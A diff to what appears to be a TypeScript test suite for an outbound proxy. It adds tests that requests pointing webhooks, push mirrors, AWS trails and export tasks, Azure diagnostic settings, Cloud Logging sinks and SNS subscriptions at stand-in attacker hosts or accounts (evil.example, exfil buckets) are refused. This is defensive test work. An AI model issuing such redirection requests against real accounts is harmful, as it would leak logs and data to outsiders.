@@ -16,6 +16,7 @@ import jsonc from 'jsonc-simple-parser';
 import { parse as parseGraphql, valueFromASTUntyped as graphqlValue, visit as visitGraphql } from 'graphql';
 import { withoutNamedHeaders } from '../../proxy/http-util.ts';
 import { leavesUnreadBody, readableAsRequest } from '../../proxy/upstream.ts';
+import { formTailWatches } from '../../proxy/form-tail.ts';
 import { curl, eventually, exchange, isProblem, parseResponses, rawToProxy, startTestAirlock, startUpstream, tlsTunnel, upstreamCa } from './helpers.ts';
 
 const numRuns = Number(process.env.AIRLOCK_FUZZ_RUNS ?? 30);
@@ -348,6 +349,25 @@ const dav = await startUpstream(t, {
       sentTo.push(o.topic ?? o.address ?? '');
       return void res.writeHead(200, { 'content-length': 2 }).end('ok');
     }
+    // (Twenty-fifth pass: AWS's log destinations, JSON APIs named by X-Amz-Target: an export task's bucket, a
+    // subscription filter's stream, a trail's bucket.)
+    const amzTarget = String(req.headers['x-amz-target'] ?? '').split('.').pop();
+    if (req.method === 'POST' && ['CreateExportTask', 'PutSubscriptionFilter', 'CreateTrail', 'UpdateTrail'].includes(amzTarget ?? '')) {
+      const o = JSON.parse(body.toString()) as { destination?: string; destinationArn?: string; S3BucketName?: string };
+      sentTo.push(String(o.destination ?? o.destinationArn ?? o.S3BucketName));
+      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
+    }
+    // (Twenty-fifth pass: an Azure diagnostic setting, the resource's logs sent to the resources it names from then on.)
+    if (req.method === 'PUT' && /\/providers\/Microsoft\.Insights\/diagnosticSettings\/[^/]+$/i.test(src)) {
+      const o = JSON.parse(body.toString()) as { properties?: Record<string, unknown> };
+      for (const v of Object.values(o.properties ?? {})) if (typeof v === 'string') sentTo.push(v);
+      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
+    }
+    // (Twenty-fifth pass: a Cloud Logging sink, every matching log entry written to its destination from then on.)
+    if ((req.method === 'POST' || req.method === 'PUT' || req.method === 'PATCH') && /\/v2\/projects\/[^/]+\/sinks(?:\/[^/]+)?$/.test(src)) {
+      sentTo.push(String((JSON.parse(body.toString()) as { destination?: unknown }).destination));
+      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
+    }
     const repo = /^\/_snapshot\/([^/_][^/]*)$/.exec(src);
     if (repo && (req.method === 'PUT' || req.method === 'POST')) {
       const o = JSON.parse(body.toString()) as { type: string; settings: { bucket?: string; url?: string; location?: string } };
@@ -370,13 +390,13 @@ const dav = await startUpstream(t, {
     // (GitHub's `PATCH …/hooks/{id}/config` moves a hook; a job API takes its callback in the query; WebSub's hub.callback.)
     // (And OpenID Connect's dynamic client registration: the provider fetches `jwks_uri`, `sector_identifier_uri`
     // and `request_uris`, and posts logout tokens and CIBA notifications to the back-channel endpoints.)
-    if ((req.method === 'POST' || req.method === 'PATCH') && /\/(?:hooks|webhooks\/|webhook_endpoints|webhook_subscriptions|validatingwebhookconfigurations|subscriptions|Messages\.json|config|jobs|hub|connector|register)$/.test(src)) {
+    if ((req.method === 'POST' || req.method === 'PATCH') && /\/(?:hooks|webhooks\/|webhook_endpoints|webhook_subscriptions|validatingwebhookconfigurations|subscriptions|Messages\.json|config|jobs|hub|connector|register|remote_mirrors|push_mirrors|integration|integrations)$/.test(src)) {
       const form = String(req.headers['content-type']).startsWith('application/x-www-form-urlencoded');
       const walk = (v: unknown, key = ''): void => {
         // (A job API here calls back whatever URL it is given, under any name.)
         // (And, twenty-second pass: Pub/Sub's pushEndpoint, Twilio's SmsUrl and VoiceUrl, `callback_uri`, a REST hook's
         // target_url and Pipedrive's subscription_url, SNS's Endpoint.)
-        if (typeof v === 'string' && (/^(?:url|notificationurl|lifecyclenotificationurl|statuscallback|callback_url|hub\.callback|jwks_uri|sector_identifier_uri|request_uris|backchannel_logout_uri|backchannel_client_notification_endpoint|pushendpoint|smsurl|voiceurl|callback_uri|target_url|subscription_url|endpoint|recordingstatuscallback|amdstatuscallback|inboundhookurl|bouncehookurl|prewebhookurl|target|uri|callbackurl|request_url)$/i.test(key) || (src.endsWith('/jobs') && /^https?:/.test(v)))) sentTo.push(v);
+        if (typeof v === 'string' && (/^(?:url|notificationurl|lifecyclenotificationurl|statuscallback|callback_url|hub\.callback|jwks_uri|sector_identifier_uri|request_uris|backchannel_logout_uri|backchannel_client_notification_endpoint|pushendpoint|smsurl|voiceurl|callback_uri|target_url|subscription_url|endpoint|recordingstatuscallback|amdstatuscallback|inboundhookurl|bouncehookurl|prewebhookurl|target|uri|callbackurl|request_url|invocationendpoint|authorizationendpoint|tokenurl|token_endpoint|remote_address|integrationuri|status_url)$/i.test(key) || (src.endsWith('/jobs') && /^https?:/.test(v)) || (src.includes('/vonage/') && key === 'address'))) sentTo.push(v);
         // (Sentry's webhooks plugin: `urls`, one URL a line.)
         if (typeof v === 'string' && key === 'urls') for (const u of v.split(/\r?\n/)) sentTo.push(u.trim());
         // (Under /slack/ a form field's JSON document is read, as Slack reads `manifest`.)
@@ -408,10 +428,16 @@ const dav = await startUpstream(t, {
       const xmlType = /xml/.test(String(req.headers['content-type']));
       // (A multipart form's fields bound as a urlencoded form's are, as Django, Rails, PHP and multer do.)
       // (A field in the charset a `_charset_` field names, as Jetty reads it.)
-      const multipartBound = (text: string): Record<string, string> => {
+      const multipartBound = (text: string): Record<string, unknown> => {
         const fields = [...text.matchAll(/name="([^"]*)"\r\n\r\n([^]*?)\r\n--/g)].map((m) => [m[1]!, m[2]!] as const);
-        // (Under /rack/ a part with no name is named by its Content-ID, as Rack's parser names it.)
-        if (src.includes('/rack/')) for (const m of text.matchAll(/\r\n--mb\r\n((?:(?!\r\n\r\n)[^])*)\r\n\r\n([^]*?)(?=\r\n--)/g)) if (!/name=/i.test(m[1]!)) fields.push([/Content-ID:\s*([^\r\n]*)/i.exec(m[1]!)?.[1] ?? 'text/plain[]', m[2]!]);
+        // (Under /rack/ a part with no name is named by its Content-ID, as Rack's parser names it, else
+        // `<its Content-Type>[]` (twenty-fifth pass), and a name ending `[]` is a list, as Rack's normalize_params builds it.)
+        if (src.includes('/rack/')) {
+          for (const m of text.matchAll(/\r\n--mb\r\n((?:(?!\r\n\r\n)[^])*)\r\n\r\n([^]*?)(?=\r\n--)/g)) if (!/name=/i.test(m[1]!)) fields.push([/Content-ID:\s*([^\r\n]*)/i.exec(m[1]!)?.[1] ?? `${/Content-Type: (.*)(?:\r\n|$)/i.exec(m[1]!)?.[1] ?? 'text/plain'}[]`, m[2]!]);
+          const params: Record<string, unknown> = {};
+          for (const [n, v] of fields) if (n.endsWith('[]')) ((params[n.slice(0, -2)] ??= []) as string[]).push(v); else params[n] = v;
+          return params;
+        }
         const charset = fields.find(([n]) => n === '_charset_')?.[1];
         return Object.fromEntries(fields.map(([n, v]) => [n, charset ? decodedIn(Buffer.from(v, 'latin1'), charset).toString() : v]));
       };
@@ -3184,7 +3210,38 @@ t.test('property: a callback named as its server reads the name (PHP\'s `callbac
     'nested form webhook[url], unescaped': (url) => ['/ok/php/subscriptions', 'application/x-www-form-urlencoded', `name=x&webhook[url]=${url}`],
     'JSON in a form field, unescaped': (url) => ['/ok/slack/subscriptions', 'application/x-www-form-urlencoded', `name=x&subscription=${JSON.stringify({ changeType: 'created', notificationUrl: url })}`],
     'Rack part named by its Content-ID': (url) => ['/ok/rack/subscriptions', 'multipart/form-data; boundary=mb', `\r\n--mb\r\nContent-Disposition: form-data; name="name"\r\n\r\nx\r\n--mb\r\nContent-Disposition: form-data\r\nContent-ID: callback_url\r\n\r\n${url}\r\n--mb--\r\n`],
-    'JSON in a form field': (url) => ['/ok/slack/subscriptions', 'application/x-www-form-urlencoded', `name=x&subscription=${encodeURIComponent(JSON.stringify({ changeType: 'created', notificationUrl: url }))}`],
+    'JSON in a form field': (url, _o, large) => ['/ok/slack/subscriptions', 'application/x-www-form-urlencoded', `${large ? `pad=${pad}&` : ''}name=x&subscription=${encodeURIComponent(JSON.stringify({ changeType: 'created', notificationUrl: url }))}`],
+    // Twenty-fifth pass: a list's name (`callback_url[]`, which PHP and Rack build into a list under
+    // `callback_url`), a Rack part named `<its Content-Type>[]`, a Mailgun `action` part and a form
+    // field's JSON document past the capture cap.
+    'callback list name': (url, _o, large) => ['/ok/php/subscriptions', 'application/x-www-form-urlencoded', `${large ? `pad=${pad}&` : ''}name=x&callback_url%5B%5D=${encodeURIComponent(url)}`],
+    'JSON in a multipart field': (url, _o, large) => ['/ok/slack/subscriptions', 'multipart/form-data; boundary=mb', `${large ? `--mb\r\nContent-Disposition: form-data; name="pad"\r\n\r\n${pad}\r\n` : ''}--mb\r\nContent-Disposition: form-data; name="subscription"\r\n\r\n${JSON.stringify({ note: 'a;b&c', notificationUrl: url })}\r\n--mb--\r\n`],
+    'JSON with a ; in a form field': (url, _o, large) => ['/ok/slack/subscriptions', 'application/x-www-form-urlencoded', `${large ? `pad=${pad}&` : ''}subscription=${JSON.stringify({ note: 'a;b', notificationUrl: url })}`],
+    // (Holders named otherwise: A2A's push notifications (an agent server posts each task's updates and
+    // artifacts there), DocuSign's envelope eventNotification, a Knative sink, a Cloud Scheduler target.)
+    'A2A pushNotificationConfig': (url, _o, large) => ['/ok/a2a/subscriptions', 'application/json', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tasks/pushNotificationConfig/set', params: { taskId: 't1', ...(large ? { pad } : {}), pushNotificationConfig: { url, token: 'x' } } })],
+    'A2A message/send configuration': (url) => ['/ok/a2a/subscriptions', 'application/json', JSON.stringify({ jsonrpc: '2.0', id: 2, method: 'message/send', params: { message: { role: 'user', parts: [{ kind: 'text', text: 'hi' }], messageId: 'm1' }, configuration: { pushNotificationConfig: { url } } } })],
+    'DocuSign eventNotification': (url) => ['/ok/subscriptions', 'application/json', JSON.stringify({ emailSubject: 'x', status: 'sent', eventNotification: { url, loggingEnabled: 'true', envelopeEvents: [{ envelopeEventStatusCode: 'completed' }] } })],
+    'Knative sink': (url) => ['/ok/subscriptions', 'application/json', JSON.stringify({ apiVersion: 'sources.knative.dev/v1', kind: 'PingSource', spec: { schedule: '* * * * *', sink: { uri: url } } })],
+    'Cloud Scheduler httpTarget': (url, _o, large) => ['/ok/jobs', 'application/json', JSON.stringify({ name: 'j', schedule: '* * * * *', ...(large ? { description: pad } : {}), httpTarget: { uri: url, httpMethod: 'POST', oidcToken: { serviceAccountEmail: 'sa@p.iam.gserviceaccount.com' } } })],
+    // (Where a server sends a credential it keeps: EventBridge's API destination and connection, an identity
+    // provider's token URL; and Vonage's application webhooks, one level further down.)
+    'EventBridge InvocationEndpoint': (url) => ['/ok/subscriptions', 'application/x-amz-json-1.1', JSON.stringify({ Name: 'd', ConnectionArn: 'arn:aws:events:us-east-1:1:connection/c/1', InvocationEndpoint: url, HttpMethod: 'POST' })],
+    'EventBridge connection AuthorizationEndpoint': (url, _o, large) => ['/ok/subscriptions', 'application/x-amz-json-1.1', JSON.stringify({ Name: 'c', ...(large ? { Description: pad } : {}), AuthorizationType: 'OAUTH_CLIENT_CREDENTIALS', AuthParameters: { OAuthParameters: { AuthorizationEndpoint: url, HttpMethod: 'POST' } } })],
+    'Keycloak identity provider tokenUrl': (url) => ['/ok/subscriptions', 'application/json', JSON.stringify({ alias: 'corp', providerId: 'oidc', config: { tokenUrl: url, clientId: 'c', clientSecret: '**********' } })],
+    'Vonage application webhooks': (url, _o, large) => ['/ok/vonage/subscriptions', 'application/json', JSON.stringify({ name: 'app', ...(large ? { pad } : {}), capabilities: { voice: { webhooks: { ...(large ? { settings: { region: 'eu' } } : { answer_url: { address: 'https://allowed.example/a', http_method: 'GET' } }), event_url: { address: url, http_method: 'POST' } } } } })],
+    // (A repository's push mirror: the server pushes every branch there on each push.)
+    'GitLab push mirror': (url) => ['/ok/api/v4/projects/7/remote_mirrors', 'application/json', JSON.stringify({ url: url.replace('https://', 'https://oauth2:x@'), enabled: true, only_protected_branches: false })],
+    'Gitea push mirror': (url) => ['/ok/api/v1/repos/o/r/push_mirrors', 'application/json', JSON.stringify({ remote_address: url, remote_username: 'u', remote_password: 'p', interval: '8h', sync_on_commit: true })],
+    'GitLab push mirror, form': (url) => ['/ok/api/v4/projects/7/remote_mirrors', 'application/x-www-form-urlencoded', `url=${encodeURIComponent(url)}&enabled=true`],
+    'Eventarc httpEndpoint': (url, _o, large) => ['/ok/subscriptions', 'application/json', JSON.stringify({ ...(large ? { labels: { pad } } : {}), eventFilters: [{ attribute: 'type', value: 'google.cloud.audit.log.v1.written' }], destination: { httpEndpoint: { uri: url } } })],
+    'Firehose HTTP endpoint': (url) => ['/ok/subscriptions', 'application/x-amz-json-1.1', JSON.stringify({ DeliveryStreamName: 's', HttpEndpointDestinationConfiguration: { EndpointConfiguration: { Url: url, Name: 'x' }, S3Configuration: { BucketARN: 'arn:aws:s3:::b' } } })],
+    'API Gateway HTTP integration': (url) => ['/ok/restapis/a1/resources/r1/methods/POST/integration', 'application/json', JSON.stringify({ type: 'HTTP_PROXY', httpMethod: 'POST', uri: url })],
+    'API Gateway v2 integration': (url) => ['/ok/v2/apis/a1/integrations', 'application/json', JSON.stringify({ IntegrationType: 'HTTP_PROXY', IntegrationMethod: 'ANY', IntegrationUri: url, PayloadFormatVersion: '1.0' })],
+    'a URL-named member of a webhooks object': (url, _o, large) => ['/ok/vonage/subscriptions', 'application/json', JSON.stringify({ name: 'app', ...(large ? { pad } : {}), webhooks: { status_url: url, http_method: 'POST' } })],
+    'OIDC request_uris[0] in a form': (url) => ['/ok/php/register', 'application/x-www-form-urlencoded', `client_name=x&request_uris[0]=${encodeURIComponent(url)}`],
+    'Rack part named by its Content-Type': (url, _o, large) => ['/ok/rack/subscriptions', 'multipart/form-data; boundary=mb', `\r\n--mb\r\nContent-Disposition: form-data; name="${large ? 'pad' : 'name'}"\r\n\r\n${large ? pad : 'x'}\r\n--mb\r\nContent-Disposition: form-data\r\nContent-Type: callback_url\r\n\r\n${url}\r\n--mb--\r\n`],
+    'Mailgun route store notify, large': (url, _o, large) => ['/ok/v3/routes/r1', 'multipart/form-data; boundary=mb', `${large ? `--mb\r\nContent-Disposition: form-data; name="description"\r\n\r\n${pad}\r\n` : ''}--mb\r\nContent-Disposition: form-data; name="expression"\r\n\r\ncatch_all()\r\n--mb\r\nContent-Disposition: form-data; name="action"\r\n\r\nstore(notify='${url}')\r\n--mb--\r\n`],
     'Rack 2 query': (url) => [`/ok/rack/subscriptions?a=1;callback_url=${encodeURIComponent(url)}`, 'application/x-www-form-urlencoded', 'name=x'],
     // (A nested form name, as PHP and Rack build `{"webhook": {"url": …}}` of it.)
     'nested form webhook[url]': (url, _o, large) => ['/ok/php/subscriptions', 'application/x-www-form-urlencoded', `${large ? `pad=${pad}&` : ''}name=x&webhook%5Burl%5D=${encodeURIComponent(url)}`],
@@ -3257,6 +3314,83 @@ t.test('property: a callback named as its server reads the name (PHP\'s `callbac
       t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => v.includes('evil.example')), `twenty-fourth pass: ${name}${large ? ' past the capture cap' : ''} naming another host: decided (${res?.status})`);
     }
   }
+  // Twenty-fifth pass: list names, a part named by its type, an action part and a field's JSON past the cap (left open by the twenty-fourth).
+  for (const [i, name] of ['callback list name', 'OIDC request_uris[0] in a form', 'Rack part named by its Content-Type', 'Mailgun route store notify, large', 'JSON in a form field', 'JSON in a multipart field', 'JSON with a ; in a form field', 'A2A pushNotificationConfig', 'A2A message/send configuration', 'DocuSign eventNotification', 'Knative sink', 'Cloud Scheduler httpTarget', 'EventBridge InvocationEndpoint', 'EventBridge connection AuthorizationEndpoint', 'Keycloak identity provider tokenUrl', 'Vonage application webhooks', 'GitLab push mirror', 'Gitea push mirror', 'GitLab push mirror, form', 'Eventarc httpEndpoint', 'Firehose HTTP endpoint', 'API Gateway HTTP integration', 'API Gateway v2 integration', 'a URL-named member of a webhooks object'].entries()) {
+    for (const large of ['OIDC request_uris[0] in a form', 'A2A message/send configuration', 'DocuSign eventNotification', 'Knative sink', 'EventBridge InvocationEndpoint', 'Keycloak identity provider tokenUrl', 'GitLab push mirror', 'Gitea push mirror', 'GitLab push mirror, form', 'Firehose HTTP endpoint', 'API Gateway HTTP integration', 'API Gateway v2 integration'].includes(name) ? [false] : [false, true]) {
+      const before = sentTo.length;
+      const [path, type, body] = shapes[name]!('https://evil.example/cb', allowed, large);
+      const [res] = parseResponses((await send(path, type, body, i % 2 === 1)).text);
+      t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => v.includes('evil.example')), `twenty-fifth pass: ${name}${large ? ' past the capture cap' : ''} naming another host: decided (${res?.status}; ${sentTo.slice(before).join(' ')})`);
+    }
+  }
+  // Property (twenty-fifth pass): a callback under a list's name, in any spelling of its subscript, form
+  // (PHP builds the list) or multipart (Rack, `[]` or a part named by its type), within or past the cap.
+  await fc.assert(fc.asyncProperty(
+    fc.record({ name: fc.constantFrom('callback_url', 'notificationUrl', 'webhook[url]', 'request_uris', 'StatusCallback'), sub: fc.constantFrom('[]', '[0]', '[3]', '%5B%5D', '%5B0%5D'), how: fc.constantFrom('form', 'multipart', 'typed part'), large: fc.boolean(), tunnel: fc.boolean() }),
+    async ({ name, sub, how, large, tunnel }) => {
+      const url = 'https://evil.example/cb';
+      const field = how === 'form' ? `${name}${sub}` : `${name}${decodeURIComponent(sub).replace(/\d/, '')}`;
+      const [path, type, body] = how === 'form'
+        ? ['/ok/php/subscriptions', 'application/x-www-form-urlencoded', `${large ? `pad=${pad}&` : ''}name=x&${field}=${encodeURIComponent(url)}`]
+        : ['/ok/rack/subscriptions', 'multipart/form-data; boundary=mb', `${large ? `--mb\r\nContent-Disposition: form-data; name="pad"\r\n\r\n${pad}\r\n` : ''}--mb\r\n${how === 'multipart' ? `Content-Disposition: form-data; name="${field}"` : `Content-Disposition: form-data\r\nContent-Type: ${name}`}\r\n\r\n${url}\r\n--mb--\r\n`];
+      const before = sentTo.length;
+      const [res] = parseResponses((await send(path, type, body, tunnel)).text);
+      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => v.includes('evil.example'));
+    },
+  ), { numRuns: 24, ...seed });
+  // (A Cloud Logging sink into another project's bucket, topic or dataset, created or moved there.)
+  for (const [i, [method, path, destination]] of ([
+    ['POST', '/ok/v2/projects/p/sinks', 'storage.googleapis.com/exfil-bucket'],
+    ['PATCH', '/ok/v2/projects/p/sinks/s?updateMask=destination', 'pubsub.googleapis.com/projects/attacker/topics/t'],
+    ['PUT', '/ok/v2/projects/p/sinks/s', 'bigquery.googleapis.com/projects/attacker/datasets/d'],
+    ['POST', '/ok/v2/projects/p/sinks', 'splunk.evil.example/hec'],
+  ] as const).entries()) {
+    const before = sentTo.length;
+    const payload = JSON.stringify({ name: 's', destination, filter: 'severity>=DEFAULT' });
+    const head = `Content-Type: application/json\r\nContent-Length: ${Buffer.byteLength(payload)}\r\n\r\n`;
+    const [res] = parseResponses((await rawToProxy(a.port, [`${method} http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}`, payload], { responses: 1 })).text);
+    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).includes(destination), `twenty-fifth pass: a log sink (${method}) into ${destination}: decided (${res?.status}) #${i}`);
+  }
+  // (AWS's log destinations: an export task into the attacker's bucket, a trail delivering there, a subscription filter streaming out.)
+  for (const [i, [action, payload, named]] of ([
+    ['Logs_20140328.CreateExportTask', { logGroupName: '/app/prod', from: 0, to: 1, destination: 'exfil-bucket-999' }, 'exfil-bucket-999'],
+    ['com.amazonaws.cloudtrail.v20131101.CloudTrail_20131101.CreateTrail', { Name: 't', S3BucketName: 'exfil-bucket-999', IsMultiRegionTrail: true }, 'exfil-bucket-999'],
+    ['Logs_20140328.PutSubscriptionFilter', { logGroupName: '/app/prod', filterName: 'f', filterPattern: '', destinationArn: 'arn:aws:lambda:us-east-1:999999999999:function:exfil' }, 'arn:aws:lambda:us-east-1:999999999999:function:exfil'],
+    ['Logs_20140328.PutSubscriptionFilter', { logGroupName: '/app/prod', filterName: 'f', filterPattern: '', destinationArn: 'arn:aws:logs:us-east-1:999999999999:destination:exfil' }, 'arn:aws:logs:us-east-1:999999999999:destination:exfil'],
+  ] as const).entries()) {
+    const before = sentTo.length;
+    const text = JSON.stringify(payload);
+    const head = `Content-Type: application/x-amz-json-1.1\r\nX-Amz-Target: ${action}\r\nContent-Length: ${Buffer.byteLength(text)}\r\n\r\n`;
+    const [res] = parseResponses((await rawToProxy(a.port, [`POST http://${dHost}/ HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}`, text], { responses: 1 })).text);
+    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).includes(named), `twenty-fifth pass: ${action.split('.').pop()} into ${named}: decided (${res?.status}) #${i}`);
+  }
+  // (An Azure diagnostic setting sending a key vault's audit logs to another subscription's storage account or Event Hub.)
+  for (const [i, [what, id]] of ([
+    ['storageAccountId', '/subscriptions/99999999-9999-9999-9999-999999999999/resourceGroups/x/providers/Microsoft.Storage/storageAccounts/exfil'],
+    ['eventHubAuthorizationRuleId', '/subscriptions/99999999-9999-9999-9999-999999999999/resourceGroups/x/providers/Microsoft.EventHub/namespaces/exfil/authorizationrules/RootManageSharedAccessKey'],
+    ['workspaceId', 'https://exfil.example/ws'],
+  ] as const).entries()) {
+    const before = sentTo.length;
+    const text = JSON.stringify({ properties: { [what]: id, logs: [{ category: 'AuditEvent', enabled: true }] } });
+    const head = `Content-Type: application/json\r\nContent-Length: ${Buffer.byteLength(text)}\r\n\r\n`;
+    const path = '/ok/subscriptions/11111111-1111-1111-1111-111111111111/resourceGroups/rg/providers/Microsoft.KeyVault/vaults/kv/providers/Microsoft.Insights/diagnosticSettings/audit?api-version=2021-05-01-preview';
+    const [res] = parseResponses((await rawToProxy(a.port, [`PUT http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}`, text], { responses: 1 })).text);
+    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).includes(id), `twenty-fifth pass: a diagnostic setting's ${what} in another subscription: decided (${res?.status}) #${i}`);
+  }
+  // (An SNS subscription of another account's queue or function: SNS delivers every message of the topic there.)
+  for (const [i, [what, arn]] of ([['an SQS queue', 'arn:aws:sqs:us-east-1:999999999999:exfil'], ['a Lambda function', 'arn:aws:lambda:us-east-1:999999999999:function:exfil'], ['a Firehose stream', 'arn:aws:firehose:us-east-1:999999999999:deliverystream/exfil']] as const).entries()) {
+    const before = sentTo.length;
+    const [res] = parseResponses((await send('/ok/subscriptions', 'application/x-www-form-urlencoded', `Action=Subscribe&TopicArn=${encodeURIComponent('arn:aws:sns:us-east-1:111111111111:alerts')}&Protocol=${what.includes('SQS') ? 'sqs' : what.includes('Lambda') ? 'lambda' : 'firehose'}&Endpoint=${encodeURIComponent(arn)}`, i % 2 === 1)).text);
+    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).includes(arn), `twenty-fifth pass: an SNS subscription of ${what} in another account: decided (${res?.status})`);
+  }
+  // (Controls past the cap: WordPress's upload `action` beside a large file, a form field's JSON naming no callback URL.)
+  for (const [what, path, type, body] of [
+    ['a WordPress upload action', '/ok/wp-admin/async-upload.php', 'multipart/form-data; boundary=mb', `--mb\r\nContent-Disposition: form-data; name="async-upload"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n${pad}\r\n--mb\r\nContent-Disposition: form-data; name="action"\r\n\r\nupload-attachment\r\n--mb--\r\n`],
+    ['a form field\'s JSON naming no URL', '/ok/slack/subscriptions', 'application/x-www-form-urlencoded', `pad=${pad}&subscription=${encodeURIComponent(JSON.stringify({ changeType: 'created', notificationUrl: 'urn:none', note: 'see https://allowed.example/' }))}`],
+  ] as const) {
+    const [res] = parseResponses((await send(path, type, body, false)).text);
+    t.ok(res !== undefined && !isProblem(res) && ![400, 403].includes(res.status), `control: ${what} past the capture cap goes through to the server (${res?.status})`);
+  }
   // The same past the capture cap naming another host (left open by the twenty-first pass: the watch read JSON strings and forms only).
   for (const [i, name] of ['XML element', 'XML attribute, namespaced', 'XML attribute after a > in a value', 'XML CDATA', 'OIDC request_uris'].entries()) {
     const before = sentTo.length;
@@ -3295,6 +3429,43 @@ t.test('property: a callback named as its server reads the name (PHP\'s `callbac
     const [res] = parseResponses((await send('/ok/stream/', 'application/json', batchOf('deny/secret.txt', after), i % 2 === 1)).text);
     t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !batchRan.slice(before).some((c) => c.includes('/deny')), `a Graph batch in a first value followed by ${JSON.stringify(after)}: decided (${res?.status})`);
   }
+});
+
+t.test('property (twenty-fifth pass): a form field\'s JSON document and a multipart `action` call past the capture cap are read wherever the packets cut them', async (t) => {
+  // The watch past the cap (proxy/form-tail.ts) as the proxy runs it, on bodies cut at random places:
+  // an escape (`%7B`, `%22`) or a delimiter split across two chunks must not hide the callback.
+  const pad = 'p'.repeat(3000);
+  const bodies = {
+    'form JSON': (url: string, esc: boolean): [string, string] => ['application/x-www-form-urlencoded', `pad=${pad}&name=x&subscription=${esc ? encodeURIComponent(JSON.stringify({ changeType: 'created', notificationUrl: url })) : JSON.stringify({ changeType: 'created', notificationUrl: url })}&z=1`],
+    'form JSON list': (url: string, esc: boolean): [string, string] => ['application/x-www-form-urlencoded', `pad=${pad}&subs=${(esc ? encodeURIComponent : (x: string) => x)(JSON.stringify([{ a: 1 }, { webhook: { url } }]))}`],
+    'multipart action': (url: string, esc: boolean): [string, string] => ['multipart/form-data; boundary=mb', `--mb\r\nContent-Disposition: form-data; name="description"\r\n\r\n${pad}\r\n--mb\r\nContent-Disposition: form-data; name="action"\r\n\r\n${esc ? 'forward(' : 'store(notify='}"${url}")\r\n--mb--\r\n`],
+  };
+  const run = async (type: string, body: Buffer, cuts: number[]): Promise<'stopped' | 'whole'> => {
+    const watches = formTailWatches(['Content-Type', type], { captured: body.subarray(0, 1024), truncated: true });
+    if (!watches.length) return 'whole';
+    const points = [...new Set(cuts.map((c) => c % body.length))].sort((x, y) => x - y);
+    const chunks = points.reduce<Buffer[]>((acc, p, i) => [...acc, body.subarray(i ? points[i - 1] : 0, p)], []).concat(body.subarray(points.at(-1) ?? 0));
+    let out = 0;
+    let failed = false;
+    for (const w of watches) {
+      w.on('data', (d: Buffer) => (out += d.length));
+      w.on('error', () => (failed = true));
+      for (const c of chunks) if (c.length && !failed) await new Promise<void>((res) => w.write(c, () => res()));
+      if (!failed) await new Promise<void>((res) => { w.once('error', () => res()); w.end(() => res()); });
+    }
+    return !failed && out === body.length * watches.length ? 'whole' : 'stopped';
+  };
+  await fc.assert(fc.asyncProperty(
+    fc.record({ shape: fc.constantFrom(...(Object.keys(bodies) as Array<keyof typeof bodies>)), esc: fc.boolean(), cuts: fc.array(fc.nat(), { minLength: 1, maxLength: 8 }), near: fc.nat(60) }),
+    async ({ shape, esc, cuts, near }) => {
+      const [type, evil] = bodies[shape]('https://evil.example/cb', esc);
+      // (One cut near the callback itself, where an escape or the value's start stands.)
+      const at = evil.indexOf('evil.example') - 30 + near;
+      if (await run(type, Buffer.from(evil), [...cuts, at]) !== 'stopped') return false;
+      const [, control] = bodies[shape]('urn:none', esc);
+      return await run(type, Buffer.from(control), [...cuts, at]) === 'whole';
+    },
+  ), { numRuns: 40, ...seed });
 });
 
 t.test('property: a form part whose own head holds the delimiter mid-line is still read by its name, as RFC 2046 parsers read it', async (t) => {
